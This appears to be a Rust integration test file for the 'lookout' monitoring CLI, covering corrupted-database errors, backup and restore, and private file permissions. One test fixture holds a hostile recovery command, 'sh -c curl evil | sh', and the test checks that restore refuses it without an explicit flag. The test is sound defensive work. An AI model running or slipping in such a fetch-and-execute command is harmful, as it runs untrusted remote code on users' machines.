//! The database as a user meets it from the CLI: a damaged file named with what to do about
//! it, `backup` while the engine runs, `restore` while it does not, private files.

mod common;

use std::path::Path;
use std::time::Duration;

use common::{event_is, run, Engine, HttpServer};
use lookout_core::model::{CheckResult, Status};
use lookout_core::monitor::Monitor;
use lookout_core::spec::MonitorSpec;
use lookout_core::storage::Store;
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);

fn error_lines(stderr: &str) -> Vec<&str> {
    stderr
        .lines()
        .filter(|l| l.starts_with("error: "))
        .collect()
}

/// A database with data, as `lookout run` leaves it: 20 monitors and 2,000 rounds of results,
/// and one daily backup.
fn populated(dir: &Path) {
    let store = Store::open(&dir.join("lookout.db")).unwrap();
    let monitors: Vec<Monitor> = (0..20)
        .map(|i| {
            Monitor::try_from(MonitorSpec {
                name: format!("m{i}"),
                target: "tcp://127.0.0.1:9".into(),
                ..Default::default()
            })
            .unwrap()
        })
        .collect();
    let ids = store.add_monitors(&monitors).unwrap();
    let start = chrono::Utc::now() - chrono::Duration::days(2);
    for round in 0..2000 {
        for id in &ids {
            store.record_check(
                *id,
                &CheckResult {
                    at: start + chrono::Duration::seconds(round * 60),
                    status: if round % 9 == 0 {
                        Status::Down
                    } else {
                        Status::Up
                    },
                    latency: Duration::from_millis(20),
                    reason: if round % 9 == 0 {
                        "refused".into()
                    } else {
                        String::new()
                    },
                    details: Value::Null,
                },
            );
        }
    }
    store.rolling_backup(chrono::Utc::now()).unwrap().unwrap();
    store.checkpoint().unwrap();
}

/// 64 KiB of noise over the middle of the file.
fn scribble_middle(path: &Path) {
    use std::io::{Seek, SeekFrom, Write};
    let size = std::fs::metadata(path).unwrap().len();
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let noise: Vec<u8> = (0..64 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let mut f = std::fs::OpenOptions::new().write(true).open(path).unwrap();
    f.seek(SeekFrom::Start(size / 2)).unwrap();
    f.write_all(&noise).unwrap();
}

#[test]
fn a_damaged_database_is_unknown_to_status_a_failure_to_the_rest_and_is_kept() {
    let d = tempfile::tempdir().unwrap();
    populated(d.path());
    let db = d.path().join("lookout.db");
    scribble_middle(&db);
    let bytes = std::fs::read(&db).unwrap();
    let shown = db.display().to_string();

    let status = run(d.path(), &["status"]);
    assert_eq!(status.code, 3, "status: {}", status.stderr);
    let incidents = run(d.path(), &["incidents"]);
    assert_eq!(incidents.code, 1, "incidents: {}", incidents.stderr);
    for r in [&status, &incidents] {
        let errors = error_lines(&r.stderr);
        assert_eq!(errors.len(), 1, "{}", r.stderr);
        assert!(
            errors[0].starts_with(&format!("error: the database {shown} is corrupt: ")),
            "{}",
            r.stderr
        );
        assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
        // What to do about it: start fresh, or restore, with the newest daily backup named.
        assert!(
            r.stderr.contains("hint: To start fresh, move it aside"),
            "{}",
            r.stderr
        );
        assert!(r.stderr.contains("lookout restore FILE"), "{}", r.stderr);
        assert!(
            r.stderr
                .contains(&d.path().join("backups").display().to_string()),
            "{}",
            r.stderr
        );
    }
    for args in [&["monitors", "list"][..], &["summary"], &["export"]] {
        assert_eq!(run(d.path(), args).code, 1, "{args:?}");
    }
    assert_eq!(
        std::fs::read(&db).unwrap(),
        bytes,
        "the damaged file is kept as it was"
    );

    // The hint's way back: restore the daily backup over it.
    let backup = std::fs::read_dir(d.path().join("backups"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let r = run(d.path(), &["restore", backup.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("20 monitors"), "{}", r.stdout);
    assert!(r.stdout.contains("lookout.db.replaced-"), "{}", r.stdout);
    assert_eq!(
        run(d.path(), &["status"]).code,
        0,
        "every monitor was UP at its last check"
    );
    let aside: Vec<_> = std::fs::read_dir(d.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.to_str().unwrap().contains(".replaced-")
                && !p.to_str().unwrap().ends_with("-wal")
                && !p.to_str().unwrap().ends_with("-shm")
        })
        .collect();
    assert_eq!(aside.len(), 1, "{aside:?}");
    assert_eq!(std::fs::read(&aside[0]).unwrap(), bytes);
}

#[test]
fn backup_refuses_to_overwrite_without_force_and_restore_round_trips() {
    let d = tempfile::tempdir().unwrap();
    for name in ["a", "b"] {
        let r = run(
            d.path(),
            &[
                "monitors",
                "add",
                "--name",
                name,
                "--target",
                "tcp://127.0.0.1:9",
            ],
        );
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    let file = d.path().join("saved.db");
    let f = file.to_str().unwrap();
    let r = run(d.path(), &["backup", f]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.starts_with("backed up "), "{}", r.stdout);

    let again = run(d.path(), &["backup", f]);
    assert_eq!(again.code, 2, "{}", again.stderr);
    assert_eq!(
        error_lines(&again.stderr),
        [format!(
            "error: {f}: already exists; pass --force to replace it"
        )]
    );
    assert_eq!(run(d.path(), &["backup", f, "--force"]).code, 0);

    assert_eq!(run(d.path(), &["monitors", "remove", "a"]).code, 0);
    let r = run(d.path(), &["restore", f]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let list = run(d.path(), &["monitors", "list", "--json"]).json();
    let names: Vec<_> = list["monitors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names, ["a", "b"]);

    // A file that is not a Lookout database is refused, naming it; nothing changes.
    let junk = common::write_file(d.path(), "junk.db", "not a database at all, just text");
    let r = run(d.path(), &["restore", junk.to_str().unwrap()]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        error_lines(&r.stderr)[0].contains(junk.to_str().unwrap()),
        "{}",
        r.stderr
    );
    assert_eq!(run(d.path(), &["monitors", "list", "--json"]).json(), list);

    // Nothing to back up on a fresh data dir, and nothing is created for asking.
    let fresh = tempfile::tempdir().unwrap();
    let r = run(
        fresh.path(),
        &["backup", fresh.path().join("x.db").to_str().unwrap()],
    );
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(!fresh.path().join("lookout.db").exists());
}

#[test]
fn backup_works_while_lookout_run_checks_and_restore_waits_for_it_to_stop() {
    let server = HttpServer::start();
    let d = tempfile::tempdir().unwrap();
    // As the issue asks: 1,000 monitors, here checked 200 times a second.
    let monitors: Vec<String> = (0..1000)
        .map(|i| {
            format!(
                r#"{{"name":"m{i}","target":"{}","interval":"5s","timeout":"500ms"}}"#,
                server.tcp()
            )
        })
        .collect();
    let file = common::write_file(
        d.path(),
        "monitors.json",
        &format!(r#"{{"monitors":[{}]}}"#, monitors.join(",")),
    );
    assert_eq!(run(d.path(), &["import", file.to_str().unwrap()]).code, 0);

    let mut engine = Engine::start(d.path());
    engine.wait_for("m7 UP", WAIT, |v| {
        event_is(v, "status_changed", "m7") && v["to"] == "UP"
    });
    std::thread::sleep(Duration::from_secs(2));
    let copy = d.path().join("copy.db");
    let r = run(d.path(), &["backup", copy.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let c = rusqlite::Connection::open(&copy).unwrap();
    let ok: String = c
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(ok, "ok");
    let (monitors, checks): (i64, i64) = c
        .query_row(
            "SELECT (SELECT count(*) FROM monitors), (SELECT count(*) FROM checks)",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(monitors, 1000);
    assert!(checks > 0);
    drop(c);

    let r = run(d.path(), &["restore", copy.to_str().unwrap()]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("stop it first"), "{}", r.stderr);
    engine.terminate();
    let r = run(d.path(), &["restore", copy.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
}

#[test]
fn the_data_directory_and_database_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    let data = d.path().join("new").join("data");
    let r = run(
        &data,
        &[
            "monitors",
            "add",
            "--name",
            "a",
            "--target",
            "tcp://127.0.0.1:9",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("lookout.db")), 0o600);
    let copy = d.path().join("copy.db");
    assert_eq!(run(&data, &["backup", copy.to_str().unwrap()]).code, 0);
    assert_eq!(mode(&copy), 0o600);
}

#[test]
fn restore_names_recovery_actions_the_database_lacks_and_needs_allow_recovery() {
    let theirs = tempfile::tempdir().unwrap();
    let file = common::write_file(
        theirs.path(),
        "theirs.json",
        r#"{"monitors": [{"name": "api", "target": "tcp://127.0.0.1:9",
            "recovery": [{"run": ["sh", "-c", "curl evil | sh"]}]}]}"#,
    );
    let r = run(
        theirs.path(),
        &["import", file.to_str().unwrap(), "--allow-recovery"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let backup = theirs.path().join("theirs.db");
    assert_eq!(
        run(theirs.path(), &["backup", backup.to_str().unwrap()]).code,
        0
    );

    let d = tempfile::tempdir().unwrap();
    let b = backup.to_str().unwrap();
    let r = run(d.path(), &["restore", b]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    let lines = error_lines(&r.stderr);
    assert!(
        lines[0].contains(b) && lines[0].contains("--allow-recovery"),
        "{lines:?}"
    );
    assert_eq!(
        lines[1..],
        ["error: monitor \"api\": recovery[0]: runs sh -c 'curl evil | sh'"]
    );
    assert!(!d.path().join("lookout.db").exists(), "nothing was written");

    let r = run(d.path(), &["restore", b, "--allow-recovery"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let list = run(d.path(), &["monitors", "list", "--json"]).json();
    assert_eq!(list["monitors"][0]["name"], "api");
}
